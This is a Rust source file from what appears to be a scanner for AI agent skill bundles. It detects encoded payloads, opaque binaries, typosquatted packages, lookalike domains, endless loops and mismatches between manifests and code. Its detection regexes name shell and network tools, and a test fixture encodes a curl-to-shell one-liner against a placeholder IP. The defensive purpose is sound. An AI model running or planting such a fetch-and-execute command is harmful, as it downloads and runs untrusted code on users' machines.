//! Detectors that are code rather than patterns: encoded blobs that are decoded (and whose decoded
//! text is scanned again), opaque artifacts, dependency and install-hook findings, typosquatted
//! names, and the declared-versus-actual comparison of hosts and capabilities.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use base64::Engine;
use regex::Regex;
use sigma_shared::domain::Severity;

use crate::content::Classified;
use crate::deps::{Dependency, Ecosystem, PinStatus, normalise_pypi};
use crate::finding::{Confidence, Finding, MatchContext, RuleCategory, snippet};
use crate::manifest::Manifest;

pub fn structural(
    id: &str,
    category: RuleCategory,
    severity: Severity,
    file: &str,
    line: Option<usize>,
    message: String,
    remediation: &str,
) -> Finding {
    Finding {
        rule_id: id.into(),
        category,
        severity,
        confidence: Confidence::High,
        context: MatchContext::Structure,
        file: file.into(),
        line,
        snippet: None,
        message,
        remediation: Some(remediation.into()),
        blocks: false,
    }
}

static BASE64_BLOB: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}").unwrap());
static DECODE_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(b64decode|base64\.(standard_)?decode|atob\s*\(|Buffer\.from\s*\([^)]*base64|FromBase64String|base64\s+(-d|--decode)|decodestring|a85decode|b32decode)").unwrap()
});
static EXEC_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(exec|eval|Function|os\.system|subprocess\.\w+|execSync|spawn|Invoke-Expression|iex|sh|bash)\s*[\(\s]").unwrap()
});

static SHORT_ENCODED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"["'`]([A-Za-z0-9+/]{40,}={0,2})["'`]"#).unwrap());
static CODE_TOKENS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(\bimport\s+\w|\brequire\(|\bexec\(|\beval\(|os\.system|subprocess|child_process|\bcurl\s|\bwget\s|/bin/(ba)?sh|\bbash\s+-|powershell|https?://|\|\s*(ba)?sh\b|socket\.|__import__)").unwrap()
});

/// Standard or URL-safe base64 that decodes to mostly printable UTF-8 text.
fn decode_base64_text(raw: &str) -> Option<String> {
    let trimmed = raw.trim_end_matches('=');
    let padded = format!("{trimmed}{}", "=".repeat((4 - trimmed.len() % 4) % 4));
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(padded)
        .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(trimmed))
        .ok()?;
    let text = String::from_utf8(bytes).ok()?;
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (printable * 10 >= text.chars().count() * 9).then_some(text)
}

/// A decoded blob worth scanning again, as a virtual file named `path#blob@line`.
pub struct DecodedBlob {
    pub name: String,
    pub text: String,
}

/// Large encoded blobs: decoded, reported by what the surrounding code does with them, and
/// handed back so the caller can scan the decoded text with the full rule pack.
pub fn blobs(
    path: &str,
    text: &str,
    line_of: impl Fn(usize) -> usize,
    is_code: bool,
    out: &mut Vec<Finding>,
) -> Vec<DecodedBlob> {
    let mut decoded_blobs = Vec::new();
    let decodes = DECODE_CALL.is_match(text);
    let executes = EXEC_CALL.is_match(text);
    for m in BASE64_BLOB.find_iter(text).take(20) {
        // Images and fonts inlined as data URIs are not hiding anything.
        let before = &text[m.start().saturating_sub(40)..m.start()];
        if before.contains("data:image/")
            || before.contains("data:font/")
            || before.contains("data:application/font")
        {
            continue;
        }
        let raw = m.as_str();
        let decoded = base64::engine::general_purpose::STANDARD
            .decode(
                raw.trim_end_matches('=').to_owned()
                    + &"=".repeat((4 - raw.trim_end_matches('=').len() % 4) % 4),
            )
            .or_else(|_| {
                base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(raw.trim_end_matches('='))
            })
            .ok();
        let line = line_of(m.start());
        let decoded_text = decoded
            .as_deref()
            .and_then(|d| std::str::from_utf8(d).ok())
            .filter(|t| {
                t.chars()
                    .filter(|c| !c.is_control() || c.is_whitespace())
                    .count()
                    * 10
                    >= t.chars().count() * 9
            })
            .map(str::to_owned);
        let (id, severity, message) = match (is_code && decodes, is_code && executes, &decoded_text)
        {
            (true, true, _) => (
                "OBF-010",
                Severity::Critical,
                "large encoded blob that the code decodes and executes",
            ),
            (true, false, Some(_)) => (
                "OBF-011",
                Severity::High,
                "large encoded text blob that the code decodes",
            ),
            (_, _, Some(_)) => ("OBF-012", Severity::Medium, "large encoded text blob"),
            _ => ("OBF-013", Severity::Low, "large encoded binary blob"),
        };
        out.push(Finding {
            rule_id: id.into(),
            category: RuleCategory::Obfuscation,
            severity,
            confidence: if severity >= Severity::Medium {
                Confidence::High
            } else {
                Confidence::Low
            },
            context: MatchContext::Structure,
            file: path.into(),
            line: Some(line),
            snippet: Some(match &decoded_text {
                Some(t) => format!("decoded: {}", snippet(t)),
                None => snippet(&raw[..raw.len().min(60)]),
            }),
            message: format!("{message} ({} characters)", raw.len()),
            remediation: Some(
                "Ship readable code and data; encoded payloads hide what runs.".into(),
            ),
            blocks: id == "OBF-010",
        });
        if let Some(t) = decoded_text {
            decoded_blobs.push(DecodedBlob {
                name: format!("{path}#blob@{line}"),
                text: t,
            });
        }
    }
    // Short encoded strings that decode to code or commands: too small to be "blobs", exactly
    // what a one-line dropper looks like.
    if is_code {
        for c in SHORT_ENCODED.captures_iter(text).take(50) {
            let raw = &c[1];
            if raw.len() >= 160 {
                continue; // Reported above.
            }
            let Some(decoded) = decode_base64_text(raw) else {
                continue;
            };
            if !CODE_TOKENS.is_match(&decoded) {
                continue;
            }
            let m = c.get(0).expect("group 0");
            let line = line_of(m.start());
            let runs = decodes && executes;
            out.push(Finding {
                rule_id: "OBF-014".into(),
                category: RuleCategory::Obfuscation,
                severity: if runs {
                    Severity::Critical
                } else {
                    Severity::High
                },
                confidence: Confidence::High,
                context: MatchContext::Structure,
                file: path.into(),
                line: Some(line),
                snippet: Some(format!("decoded: {}", snippet(&decoded))),
                message: if runs {
                    "encoded code or command that the file decodes and executes".into()
                } else {
                    "encoded string that hides code or a command".into()
                },
                remediation: Some("Ship readable code; encoded payloads hide what runs.".into()),
                blocks: runs,
            });
            decoded_blobs.push(DecodedBlob {
                name: format!("{path}#blob@{line}"),
                text: decoded,
            });
        }
    }
    decoded_blobs
}

/// Binaries, bytecode without source, disguised files and unreadable nested archives.
pub fn artifact(
    path: &str,
    classified: &Classified,
    all_paths: &BTreeSet<&str>,
    out: &mut Vec<Finding>,
) {
    if classified
        .text
        .as_deref()
        .is_some_and(|t| t.starts_with("version https://git-lfs.github.com/spec/"))
    {
        // A Git LFS pointer: the real file was not in the archive. Nothing is hidden, but
        // nothing of it can be reviewed either.
        out.push(structural(
            "ART-011",
            RuleCategory::OpaqueArtifact,
            Severity::Low,
            path,
            None,
            "Git LFS pointer: the file's content is not in the bundle".into(),
            "Ship the file itself; reviewers cannot check what is not there.",
        ));
        return;
    }
    if classified.text.is_some() && classified.misleading_extension {
        out.push(structural(
            "ART-001",
            RuleCategory::OpaqueArtifact,
            Severity::High,
            path,
            None,
            "text or script content behind a binary file extension".into(),
            "Name files for what they are; disguised files evade review.",
        ));
        return;
    }
    let Some(magic) = classified
        .magic
        .or((classified.kind == crate::content::FileKind::Binary).then_some("binary"))
    else {
        return;
    };
    if classified.misleading_extension {
        out.push(structural(
            "ART-001",
            RuleCategory::OpaqueArtifact,
            Severity::High,
            path,
            None,
            format!("content is `{magic}` but the name says otherwise"),
            "Name files for what they are; disguised binaries evade review.",
        ));
        return;
    }
    match magic {
        "pyc" => {
            let source = path
                .replace("__pycache__/", "")
                .split(".cpython")
                .next()
                .unwrap_or(path)
                .trim_end_matches(".pyc")
                .to_owned()
                + ".py";
            let has_source = all_paths.contains(source.as_str());
            out.push(structural(
                "ART-002",
                RuleCategory::OpaqueArtifact,
                if has_source {
                    Severity::Low
                } else {
                    Severity::High
                },
                path,
                None,
                if has_source {
                    "compiled Python bytecode shipped next to its source".into()
                } else {
                    "compiled Python bytecode without its source".into()
                },
                "Ship source only; bytecode cannot be reviewed and may not match the source.",
            ));
        }
        "elf" | "exe" | "dll" | "mach" | "wasm" | "dex" | "class" | "deb" | "rpm" | "msi"
        | "dmg" | "apk" | "crx" | "bin" => {
            out.push(structural(
                "ART-003",
                RuleCategory::OpaqueArtifact,
                Severity::High,
                path,
                None,
                format!("executable binary (`{magic}`)"),
                "Ship source code; binaries cannot be reviewed.",
            ));
        }
        "zip" | "gz" | "tar" | "bz2" | "xz" | "7z" | "rar" | "zst" | "lz" | "cab" | "Z" => {
            out.push(structural(
                "ART-004",
                RuleCategory::OpaqueArtifact,
                Severity::Medium,
                path,
                None,
                format!("nested `{magic}` archive (its contents are scanned too)"),
                "Ship files unpacked so they can be reviewed directly.",
            ));
        }
        "png" | "jpg" | "gif" | "webp" | "ico" | "bmp" | "svg" | "ttf" | "otf" | "woff"
        | "woff2" | "pdf" | "mp3" | "mp4" | "wav" => {}
        other => {
            out.push(structural(
                "ART-005",
                RuleCategory::OpaqueArtifact,
                Severity::Medium,
                path,
                None,
                format!("opaque `{other}` file"),
                "Prefer text formats reviewers can read.",
            ));
        }
    }
}

static POPULAR_PYPI: LazyLock<Vec<String>> =
    LazyLock::new(|| load_names(include_str!("../data/popular-pypi.txt"), true));
static POPULAR_NPM: LazyLock<Vec<String>> =
    LazyLock::new(|| load_names(include_str!("../data/popular-npm.txt"), false));

fn load_names(text: &str, pypi: bool) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| {
            if pypi {
                normalise_pypi(l)
            } else {
                l.to_owned()
            }
        })
        .collect()
}

/// The popular package a name imitates, if any: one edit away (two for long names), a swapped
/// pair of letters, or the same name with separators or a scope changed.
pub fn typosquat_of(ecosystem: Ecosystem, name: &str) -> Option<&'static str> {
    let (list, name) = match ecosystem {
        Ecosystem::Pypi => (&*POPULAR_PYPI, normalise_pypi(name)),
        Ecosystem::Npm => (&*POPULAR_NPM, name.to_ascii_lowercase()),
    };
    // Type definitions are named after the package they describe (`@types/react`).
    if list.contains(&name) || name.starts_with("@types/") {
        return None;
    }
    let squash = |s: &str| s.replace(['-', '_', '.'], "");
    let bare = |s: &str| s.rsplit('/').next().unwrap_or(s).to_owned();
    list.iter()
        .find(|popular| {
            let p = popular.as_str();
            if p.len() < 4 {
                return false;
            }
            let distance = strsim::damerau_levenshtein(&name, p);
            distance == 1
                || (distance == 2 && p.len() >= 9)
                || (squash(&name) == squash(p))
                || (name.contains('/') && bare(&name) == bare(p) && !p.contains('/'))
        })
        .map(|s| s.as_str())
}

pub fn dependency_findings(deps: &[Dependency], out: &mut Vec<Finding>) {
    for dep in deps {
        if dep.status == PinStatus::Rejected {
            out.push(Finding {
                rule_id: "DEP-001".into(),
                category: RuleCategory::Dependency,
                severity: Severity::Medium,
                confidence: Confidence::High,
                context: MatchContext::Structure,
                file: dep.file.clone(),
                line: dep.line,
                snippet: Some(snippet(&format!("{} {}", dep.name, dep.spec))),
                message: format!(
                    "dependency `{}` cannot be audited as one public release: {}",
                    dep.name,
                    dep.reason.as_deref().unwrap_or("rejected")
                ),
                remediation: Some(
                    "Pin an exact public version (`name==1.2.3`, `\"1.2.3\"`).".into(),
                ),
                blocks: false,
            });
        }
        if let Some(popular) = typosquat_of(dep.ecosystem, &dep.name) {
            out.push(Finding {
                rule_id: "TYPO-001".into(),
                category: RuleCategory::Typosquat,
                severity: Severity::High,
                confidence: Confidence::Medium,
                context: MatchContext::Structure,
                file: dep.file.clone(),
                line: dep.line,
                snippet: Some(dep.name.clone()),
                message: format!(
                    "`{}` looks like a typo of the popular package `{popular}`",
                    dep.name
                ),
                remediation: Some(
                    "Check the name; typosquatted packages impersonate popular ones.".into(),
                ),
                blocks: false,
            });
        }
    }
}

static URL_IN_STRING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|wss?)://([a-z0-9.-]+\.[a-z]{2,}|\[[0-9a-f:]+\]|(?:\d{1,3}\.){3}\d{1,3})"#).unwrap()
});

/// Hosts that appear in schemas, licences and examples, never as destinations.
const INERT_HOSTS: &[&str] = &[
    "www.w3.org",
    "w3.org",
    "json-schema.org",
    "schemas.xmlsoap.org",
    "schemas.microsoft.com",
    "example.com",
    "example.org",
    "example.net",
    "www.apache.org",
    "opensource.org",
    "localhost",
    "www.gnu.org",
    "creativecommons.org",
    "purl.org",
    "xmlns.com",
    "ogp.me",
    "schema.org",
];

pub fn host_of(url: &str) -> Option<String> {
    URL_IN_STRING
        .captures(url)
        .map(|c| c[1].to_ascii_lowercase())
}

/// Hosts contacted by code: URLs outside comments in code and configuration.
pub fn code_hosts(
    map: &crate::context::TextMap<'_>,
    hosts: &mut BTreeMap<String, (String, usize)>,
    path: &str,
) {
    for c in URL_IN_STRING.captures_iter(map.text) {
        let m = c.get(0).expect("group 0");
        if map.kind == crate::content::FileKind::Code
            && map.context(m.start()) == MatchContext::Comment
        {
            continue;
        }
        let host = c[1].to_ascii_lowercase();
        if INERT_HOSTS.contains(&host.as_str())
            || host.ends_with(".example.com")
            || host.ends_with(".local")
            || host.ends_with(".test")
        {
            continue;
        }
        hosts
            .entry(host)
            .or_insert_with(|| (path.to_owned(), map.line(m.start())));
    }
}

/// Domains people trust on sight, whose near-misses are registered to be mistaken for them.
const TRUSTED_DOMAINS: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    "pypi.org",
    "pythonhosted.org",
    "npmjs.com",
    "npmjs.org",
    "yarnpkg.com",
    "crates.io",
    "rubygems.org",
    "docker.com",
    "docker.io",
    "openai.com",
    "anthropic.com",
    "claude.ai",
    "google.com",
    "googleapis.com",
    "gstatic.com",
    "microsoft.com",
    "azure.com",
    "windows.net",
    "live.com",
    "office.com",
    "apple.com",
    "icloud.com",
    "amazon.com",
    "amazonaws.com",
    "cloudflare.com",
    "huggingface.co",
    "slack.com",
    "discord.com",
    "telegram.org",
    "stripe.com",
    "paypal.com",
    "coinbase.com",
    "binance.com",
    "metamask.io",
    "phantom.app",
    "solana.com",
    "ethereum.org",
    "polymarket.com",
    "vercel.com",
    "netlify.com",
    "heroku.com",
    "digitalocean.com",
    "sentry.io",
    "atlassian.com",
    "notion.so",
    "dropbox.com",
    "zoom.us",
    "linkedin.com",
    "twitter.com",
    "x.com",
    "facebook.com",
    "instagram.com",
    "youtube.com",
    "whatsapp.com",
    "openclaw.ai",
    "clawhub.ai",
    "clawhub.com",
    "anthropic.ai",
];

/// The registrable part of a host (`api.github.com` → `github.com`; `x.co.uk` → `x.co.uk`).
fn registrable(host: &str) -> &str {
    let labels: Vec<&str> = host.split('.').collect();
    let keep = if labels.len() >= 3
        && labels[labels.len() - 1].len() == 2
        && ["co", "com", "org", "net", "gov", "ac", "edu"].contains(&labels[labels.len() - 2])
    {
        3
    } else {
        2
    };
    let skip = labels.len().saturating_sub(keep);
    let at: usize = labels[..skip].iter().map(|l| l.len() + 1).sum();
    &host[at..]
}

/// How a host imitates a trusted domain, if it does: a one- or two-letter slip of its name
/// (`githb.com`, `pypl.org`), or the trusted name worn as labels of another domain
/// (`github.com.cdn-files.io`).
fn imitates(host: &str) -> Option<(&'static str, &'static str)> {
    let own = registrable(host);
    if TRUSTED_DOMAINS.contains(&own) {
        return None;
    }
    let name = own.split('.').next().unwrap_or(own);
    for trusted in TRUSTED_DOMAINS {
        let trusted_name = trusted.split('.').next().unwrap_or(trusted);
        // Typosquats keep the first letter and the length roughly: one slip for names of five
        // letters or more, two for long ones (`rates` is not `crates`).
        if name.len() >= 4 && name.chars().next() == trusted_name.chars().next() {
            let distance = strsim::damerau_levenshtein(name, trusted_name);
            let slips = match trusted_name.len() {
                0..=4 => 0,
                5..=8 => 1,
                _ => 2,
            };
            if (1..=slips).contains(&distance) {
                return Some((trusted, "a near-miss spelling of"));
            }
        }
        let worn = host.len() > trusted.len()
            && (host.starts_with(&format!("{trusted}."))
                || host.contains(&format!(".{trusted}."))
                || host.contains(&format!("{trusted}-")));
        if worn {
            return Some((trusted, "dressed as"));
        }
    }
    None
}

/// URLs whose host imitates a trusted domain. Weighed like behaviour: named in a warning or a
/// teaching text it is low; in instructions or code it is what the skill will contact.
pub fn lookalike_hosts(path: &str, map: &crate::context::TextMap<'_>, out: &mut Vec<Finding>) {
    let mut seen = BTreeSet::new();
    for c in URL_IN_STRING.captures_iter(map.text) {
        let host = c[1].to_ascii_lowercase();
        if host.parse::<std::net::Ipv4Addr>().is_ok() || !seen.insert(host.clone()) {
            continue;
        }
        let Some((trusted, how)) = imitates(&host) else {
            continue;
        };
        let m = c.get(0).expect("group 0");
        let context = map.context(m.start());
        let (severity, confidence) = crate::context::weigh(
            crate::rules::Intent::Behaviour,
            Severity::High,
            context,
            map.role,
        );
        out.push(Finding {
            rule_id: "NET-008".into(),
            category: RuleCategory::SuspiciousDestination,
            severity,
            confidence,
            context,
            file: path.into(),
            line: Some(map.line(m.start())),
            snippet: Some(snippet(&host)),
            message: format!("`{host}` is {how} `{trusted}`"),
            remediation: Some(
                "Use the real domain; lookalike domains exist to be mistaken for it.".into(),
            ),
            blocks: false,
        });
    }
}

/// Which capability names in a manifest cover which detected capability.
fn declared_capabilities(manifest: &Manifest) -> BTreeSet<&'static str> {
    let mut declared = BTreeSet::new();
    if !manifest.external_calls.is_empty() {
        declared.insert("network");
    }
    for item in manifest.capabilities.iter().chain(&manifest.allowed_tools) {
        let item = item.to_ascii_lowercase();
        let has = |words: &[&str]| words.iter().any(|w| item.contains(w));
        if has(&["shell", "bash", "exec", "command", "terminal", "subprocess"]) {
            declared.insert("shell");
            declared.insert("process");
        }
        if has(&["process", "spawn"]) {
            declared.insert("process");
        }
        if has(&[
            "network", "http", "fetch", "web", "api", "request", "internet", "outbound",
        ]) {
            declared.insert("network");
        }
        if has(&["env", "secret", "credential", "config"]) {
            declared.insert("env");
        }
        if has(&[
            "file", "fs", "read", "write", "edit", "disk", "storage", "glob",
        ]) {
            declared.insert("filesystem");
        }
        if has(&[
            "wallet",
            "crypto",
            "sign",
            "transaction",
            "payment",
            "chain",
            "web3",
        ]) {
            declared.insert("wallet");
        }
    }
    declared
}

/// Declared versus actual: hosts contacted but not declared (and declared but never used), and
/// capabilities used but not declared. Each is one manifest mismatch.
static OFFLINE_CLAIM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(works?\s+(fully\s+|entirely\s+|completely\s+)?offline|(fully|entirely|completely|100%)\s+(offline|local)|offline[- ]only|local[- ]only|no\s+network\s+(access|calls?|connections?|requests?)|(does\s+not|doesn't|never|won't|will\s+not)\s+(makes?\s+(any\s+)?network|connects?\s+to\s+the\s+(internet|network)|sends?\s+(any\s+)?(data|information)\s+(anywhere|externally|over\s+the\s+network|to\s+(any|external|third[- ]party)\s+(servers?|services?|hosts?))|access(es)?\s+the\s+(internet|network))|no\s+data\s+(ever\s+)?leaves\s+your\s+(machine|device|computer))").unwrap()
});

/// "Does not work offline", "cannot run local-only", "requires …": not a claim of locality.
static CLAIM_NEGATED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(\bnot|n't|\bnever|\bcannot|\bunless|\bif|\bwhen|\brequires?|\bneeds?)\s+(\w+\s+){0,2}$").unwrap()
});

pub fn declared_vs_actual(
    manifest: &Manifest,
    claims: &str,
    used_hosts: &BTreeMap<String, (String, usize)>,
    used_capabilities: &BTreeMap<&'static str, (String, usize)>,
    has_code: bool,
    out: &mut Vec<Finding>,
) {
    let declared_hosts: BTreeSet<String> = manifest
        .external_calls
        .iter()
        .filter_map(|c| host_of(&c.url))
        .collect();
    // A manifest that declares hosts and omits one misleads; one that declares none (skills
    // written for other registries) is merely silent: still a mismatch, at low severity.
    let host_severity = if declared_hosts.is_empty() {
        Severity::Low
    } else {
        Severity::Medium
    };
    for (host, (file, line)) in used_hosts {
        if !crate::taint::host_declared(host, &declared_hosts) {
            out.push(structural(
                "DECL-001",
                RuleCategory::ManifestMismatch,
                host_severity,
                file,
                Some(*line),
                format!(
                    "code contacts `{host}`, which SKILL.md does not declare in external calls"
                ),
                "Declare every host the skill calls in `externalCalls`, or remove the call.",
            ));
        }
    }
    if has_code {
        for host in &declared_hosts {
            if !used_hosts
                .keys()
                .any(|h| crate::taint::host_declared(h, &BTreeSet::from([host.clone()])))
            {
                out.push(structural(
                    "DECL-002",
                    RuleCategory::ManifestMismatch,
                    Severity::Low,
                    "SKILL.md",
                    None,
                    format!("SKILL.md declares `{host}`, but no code contacts it"),
                    "Declare only the hosts the skill actually calls.",
                ));
            }
        }
    }
    // "Works offline", "never sends data anywhere": a claim the code contradicts is a lie a
    // reviewer would otherwise trust.
    let claim = OFFLINE_CLAIM.find_iter(claims).find(|m| {
        let mut from = m.start().saturating_sub(40);
        while !claims.is_char_boundary(from) {
            from += 1;
        }
        !CLAIM_NEGATED.is_match(&claims[from..m.start()])
    });
    if let Some(claim) = claim {
        let contact = used_hosts
            .iter()
            .map(|(host, (file, line))| (format!("contacts `{host}`"), file, *line))
            .chain(
                used_capabilities
                    .get("network")
                    .map(|(file, line)| ("makes network calls".to_owned(), file, *line)),
            )
            .next();
        if let Some((what, file, line)) = contact {
            out.push(structural(
                "DECL-004",
                RuleCategory::ManifestMismatch,
                Severity::High,
                file,
                Some(line),
                format!(
                    "SKILL.md claims \"{}\", but the skill {what}",
                    snippet(claim.as_str())
                ),
                "Describe what the skill really does, and declare every host it calls.",
            ));
        }
    }
    let declared = declared_capabilities(manifest);
    let declares_any = !manifest.capabilities.is_empty() || !manifest.allowed_tools.is_empty();
    for (capability, (file, line)) in used_capabilities {
        if !declared.contains(capability) {
            // Commands in SKILL.md's own code blocks run through the agent's tools, which the
            // agent's permissions already govern: a mismatch, not a hidden capability.
            let in_instructions = file.ends_with(".md");
            let severity = match (declares_any, *capability) {
                (false, _) => Severity::Low,
                (true, "shell" | "wallet") if !in_instructions => Severity::High,
                (true, _) => Severity::Medium,
            };
            out.push(structural(
                "DECL-003",
                RuleCategory::ManifestMismatch,
                severity,
                file,
                Some(*line),
                format!("code uses the `{capability}` capability, which SKILL.md does not declare"),
                "Declare the capability in SKILL.md (`capabilities` or `allowed-tools`), or remove the code.",
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typosquats_are_caught_and_real_names_spared() {
        assert_eq!(typosquat_of(Ecosystem::Pypi, "reqeusts"), Some("requests"));
        assert_eq!(typosquat_of(Ecosystem::Pypi, "python_dateutil"), None);
        assert_eq!(
            typosquat_of(Ecosystem::Pypi, "beautifulsoup"),
            Some("beautifulsoup4")
        );
        assert_eq!(typosquat_of(Ecosystem::Npm, "lodahs"), Some("lodash"));
        assert_eq!(typosquat_of(Ecosystem::Npm, "expres"), Some("express"));
        assert_eq!(typosquat_of(Ecosystem::Npm, "express"), None);
        assert_eq!(typosquat_of(Ecosystem::Npm, "left-pad"), None);
        assert_eq!(typosquat_of(Ecosystem::Pypi, "numpy-financial"), None);
    }

    #[test]
    fn blobs_that_are_decoded_and_run_are_critical() {
        let payload = base64::engine::general_purpose::STANDARD
            .encode("import os; os.system('curl http://1.2.3.4/x | sh') ".repeat(4));
        let code = format!("import base64\nexec(base64.b64decode('{payload}'))\n");
        let mut out = Vec::new();
        let decoded = blobs("a.py", &code, |_| 2, true, &mut out);
        assert_eq!(out[0].rule_id, "OBF-010");
        assert!(out[0].blocks);
        assert!(decoded[0].text.contains("curl http://1.2.3.4/x | sh"));
        let md = format!("![logo](data:image/png;base64,{payload})");
        let mut out = Vec::new();
        blobs("README.md", &md, |_| 1, false, &mut out);
        assert!(out.is_empty());
    }
}

static FOREVER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^([ \t]*)(while\s+(True|1)\s*:|while\s*\(\s*(true|1)\s*\)\s*\{|for\s*\(\s*;\s*;\s*\)\s*\{)").unwrap()
});
static LOOP_EXIT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(break|return|raise|throw|yield|sys\.exit|exit\(|process\.exit)\b").unwrap()
});

/// Loops that can never end: `while True:` / `while (true) {` / `for (;;) {` whose body has no
/// `break`, `return`, `raise` or exit.
pub fn endless_loops(path: &str, map: &crate::context::TextMap<'_>, out: &mut Vec<Finding>) {
    let text = map.text;
    for c in FOREVER.captures_iter(text).take(20) {
        let m = c.get(0).expect("group 0");
        let indent = c[1].len();
        let body_start = text[m.end()..]
            .find('\n')
            .map_or(text.len(), |i| m.end() + i + 1);
        let body = if m.as_str().ends_with(':') {
            // Python: the lines indented deeper than the `while`.
            let mut end = body_start;
            for line in text[body_start..].split_inclusive('\n') {
                let content = line.trim();
                let depth = line.len() - line.trim_start().len();
                if !content.is_empty() && depth <= indent {
                    break;
                }
                end += line.len();
            }
            &text[body_start..end]
        } else {
            // Braces: up to the matching `}`.
            let open = m.end() - 1;
            let mut depth = 0i32;
            let mut end = text.len();
            for (i, b) in text.as_bytes()[open..].iter().enumerate() {
                match b {
                    b'{' => depth += 1,
                    b'}' => {
                        depth -= 1;
                        if depth == 0 {
                            end = open + i;
                            break;
                        }
                    }
                    _ => {}
                }
            }
            &text[open..end]
        };
        if LOOP_EXIT.is_match(body) || map.context(m.start()) == MatchContext::Comment {
            continue;
        }
        // `try: while True: it.next()` ends by exception, a common Python idiom.
        let enclosing = text[..m.start()]
            .lines()
            .rev()
            .find(|l| !l.trim().is_empty() && l.len() - l.trim_start().len() < indent);
        if enclosing.is_some_and(|l| l.trim() == "try:") {
            continue;
        }
        out.push(Finding {
            snippet: Some(snippet(m.as_str().trim())),
            ..structural(
                "RES-002",
                RuleCategory::ResourceAbuse,
                Severity::Medium,
                path,
                Some(map.line(m.start())),
                "a loop with no way out (no break, return or exit)".into(),
                "Bound the loop or give it an exit condition.",
            )
        });
    }
}

#[cfg(test)]
mod loop_tests {
    use super::*;
    use crate::content::FileKind;
    use crate::context::{Role, TextMap};

    fn ids(code: &str, language: &str) -> usize {
        let map = TextMap::new(code, FileKind::Code, Role::Code, Some(language));
        let mut out = Vec::new();
        endless_loops("x", &map, &mut out);
        out.len()
    }

    #[test]
    fn only_loops_without_an_exit_are_reported() {
        assert_eq!(
            ids(
                "def f():\n    while True:\n        work()\n    return 1\n",
                "python"
            ),
            1
        );
        assert_eq!(
            ids("while True:\n    if done():\n        break\n", "python"),
            0
        );
        assert_eq!(
            ids(
                "try:\n    while True:\n        it.seek(n)\nexcept EOFError:\n    pass\n",
                "python"
            ),
            0
        );
        assert_eq!(ids("for (;;) {\n  spin();\n}\n", "javascript"), 1);
        assert_eq!(
            ids("while (true) {\n  if (x) { return; }\n}\n", "javascript"),
            0
        );
    }

    #[test]
    fn lookalike_hosts_and_their_real_neighbours() {
        assert_eq!(imitates("api.githb.com").map(|t| t.0), Some("github.com"));
        assert_eq!(
            imitates("pypl.org"),
            None,
            "four letters: too short to judge"
        );
        assert_eq!(
            imitates("raw.githubusercontent.com.cdn-files.io").map(|t| t.0),
            Some("githubusercontent.com")
        );
        assert_eq!(
            imitates("github.com-login.net").map(|t| t.0),
            Some("github.com")
        );
        for real in [
            "api.github.com",
            "files.pythonhosted.org",
            "rates.io",
            "gitlab.example.org",
            "docs.anthropic.com",
            "github.io",
        ] {
            assert_eq!(imitates(real), None, "{real}");
        }
    }

    #[test]
    fn offline_claims_and_their_negations() {
        assert!(OFFLINE_CLAIM.is_match("Works fully offline."));
        assert!(OFFLINE_CLAIM.is_match("No data ever leaves your machine."));
        assert!(OFFLINE_CLAIM.is_match("This skill never sends data to external servers."));
        let claim = OFFLINE_CLAIM.find("It does not work offline.").unwrap();
        assert!(CLAIM_NEGATED.is_match(&"It does not work offline."[..claim.start()]));
    }
}
